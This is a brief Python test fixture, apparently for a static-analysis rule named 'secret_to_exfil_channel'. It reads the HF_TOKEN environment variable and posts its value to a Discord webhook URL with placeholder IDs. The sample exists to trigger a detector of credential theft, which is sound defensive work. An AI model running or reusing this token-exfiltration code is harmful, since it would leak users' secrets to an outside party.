import os

import requests

# ruleid: yara.exfiltration.secret_to_exfil_channel
token = os.environ["HF_TOKEN"]
requests.post(
    "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop",
    json={"content": token},
    timeout=3,
)
